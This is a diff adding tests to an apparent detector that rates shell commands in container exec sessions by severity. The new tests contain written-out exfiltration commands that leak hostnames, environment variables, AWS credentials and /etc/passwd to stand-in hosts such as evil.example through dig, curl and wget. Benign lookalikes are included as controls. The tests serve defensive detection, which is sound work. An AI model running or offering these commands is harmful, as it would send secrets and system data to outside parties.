@@ -381,6 +381,53 @@ describe("evaluate: severity and reasons", () => {
     ]);
   });
 
+  describe("high: names and data made of command output (exec sessions)", () => {
+    table([
+      [
+        "dig of a label made by base64",
+        session("sh", "-c", "dig $(cat /etc/hostname | base64).evil.example"),
+        "high",
+        "dig queries a name that looks like DNS exfiltration (a label built from command output): $(cat /etc/hostname | base64).evil.example",
+      ],
+      [
+        "curl to a host made of command output",
+        session("sh", "-c", "curl -s http://`whoami`.evil.example/"),
+        "high",
+        "curl contacts a host whose name looks like DNS exfiltration (a label built from command output): `whoami`.evil.example",
+      ],
+      [
+        "curl -d with a file read by a substitution",
+        session("sh", "-c", 'curl -d "$(cat /root/.aws/credentials)" https://x/'),
+        "high",
+        "curl uploads command output (-d $(cat /root/.aws/credentials))",
+      ],
+      [
+        "wget with the environment in its URL",
+        session("sh", "-c", 'wget -qO- "https://x/?d=$(env | base64 -w0)"'),
+        "high",
+        "wget sends command output in its URL (https://x/?d=$(env | base64 -w0))",
+      ],
+      [
+        "wget -e post_file (a .wgetrc command)",
+        run("/usr/bin/wget", "-e", "post_file=/etc/passwd", "http://x/"),
+        "high",
+        "wget uploads a file (-e post_file=/etc/passwd)",
+      ],
+    ]);
+
+    it.each([
+      ["a lookup of the pod's own name", "dig $(hostname -f)"],
+      ["an in-cluster name", "nslookup $(hostname).web.default.svc.cluster.local"],
+      ["a timestamp in the data", 'curl -d "ts=$(date +%s)" https://x/'],
+      [
+        "the service-account token in a header to the API server",
+        'curl -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api',
+      ],
+    ])("does not count %s", (_label, script) => {
+      expect(findingOf(session("sh", "-c", script)).severity).toBe("low");
+    });
+  });
+
   describe("high: uploads", () => {
     table([
       [
